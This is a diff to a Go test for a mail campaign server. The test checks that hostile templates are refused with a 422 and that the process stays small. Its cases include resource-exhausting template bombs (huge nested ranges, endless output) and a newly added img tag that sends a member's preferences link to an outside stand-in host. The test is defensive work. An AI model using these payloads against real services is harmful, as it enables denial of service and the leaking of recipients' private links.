@@ -14,8 +14,8 @@ import (
 
 // TestTemplateBombsLeaveServeSmall posts the campaigns of the issue that took serve from 62 MB to
 // 1.4 GB (300 wide printf variables; 2,000 ran it out of memory) or held a core for hours (nested
-// ranges over integers) to a real serve process: each is refused with 422 naming its field, and
-// the process stays small and healthy.
+// ranges over integers), and others like them, to a real serve process: each is refused with 422
+// naming its field, and the process stays small and healthy.
 func TestTemplateBombsLeaveServeSmall(t *testing.T) {
 	env := campaignEnv(t, dbtest.URL(t), smtptest.New(t))
 	srv := startServe(t, env)
@@ -29,6 +29,8 @@ func TestTemplateBombsLeaveServeSmall(t *testing.T) {
 		{"2,000 wide printf variables in the text", "text", map[string]any{"text": printfBomb}},
 		{"nested ranges over integers", "html", map[string]any{"html": `{{range 1000000}}{{range 1000000}}{{end}}{{end}}`}},
 		{"output without end", "text", map[string]any{"text": `{{range 1000000000}}0123456789abcdef{{end}}`}},
+		{"ranges nested 30 deep", "html", map[string]any{"html": strings.Repeat("{{range 1}}<p>", 30) + strings.Repeat("</p>{{end}}", 30)}},
+		{"the member's link in an image", "html", map[string]any{"html": `<img src="https://elsewhere.example/?p={{.Links.Preferences}}">`}},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
